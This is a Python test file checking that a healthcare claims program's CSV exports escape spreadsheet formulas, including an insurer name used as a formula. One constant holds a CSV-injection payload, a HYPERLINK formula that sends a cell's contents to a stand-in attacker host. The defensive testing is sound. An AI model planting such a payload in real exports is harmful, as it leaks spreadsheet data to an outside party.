"""Issue 12 point 8: every CSV the program writes guards its text cells against formulas, the
reconciliation report's too (an insurer named `=HYPERLINK(…)` was written as a live formula)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from tests.factories import make_site, patient_input
from verifier.domain.coverage import Guarantee
from verifier.exports.csv_writer import cell, spreadsheet_csv
from verifier.services import checks, claims, directory, patients, reconciliation
from verifier.services.checks import CheckInput
from verifier.store.engine import Location

EVIL = '=HYPERLINK("http://attaquant.example/?x="&A1;"cliquez")'


def test_an_insurer_named_like_a_formula_is_text_in_the_reconciliation_csv(location: Location) -> None:
    ctx = make_site(location)
    directory.add_insurer(ctx, "80123456", EVIL, "VIAMEDIS")
    patient, _ = patients.save(ctx, patient_input(order=321))
    check = checks.record(
        ctx,
        CheckInput(patient.id, "80123456", "hotline", "covered", [Guarantee("PHAR", Decimal(100))], reference="H-1"),
    )
    claims.create(ctx, check.id, [claims.LineDraft("Boîte", "PH7", 1, Decimal("10.00"), Decimal("65"))], queue_now=True)
    text = reconciliation.to_csv(reconciliation.reconcile(ctx))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    (evil,) = [r for r in rows if "HYPERLINK" in r[1]]
    assert evil[1] == "'" + EVIL  # shown as text by any spreadsheet
    assert evil[2] == "3,50"  # amounts stay numbers
    ctx.close()


def test_every_cell_kind_is_written_as_a_spreadsheet_reads_it() -> None:
    assert [cell(v) for v in ("+33 1 23", "-x", "@SUM(A1)", "\tA", "Mutuelle", None, "")] == [
        "'+33 1 23",
        "'-x",
        "'@SUM(A1)",
        "'\tA",
        "Mutuelle",
        "",
        "",
    ]
    assert [cell(v) for v in (Decimal("-1.00"), Decimal("1234.5"), 7)] == ["-1,00", "1234,50", "7"]
    assert spreadsheet_csv(("a", "b"), [("=1+1", Decimal("2"))]) == "\ufeffa;b\r\n'=1+1;2,00\r\n"
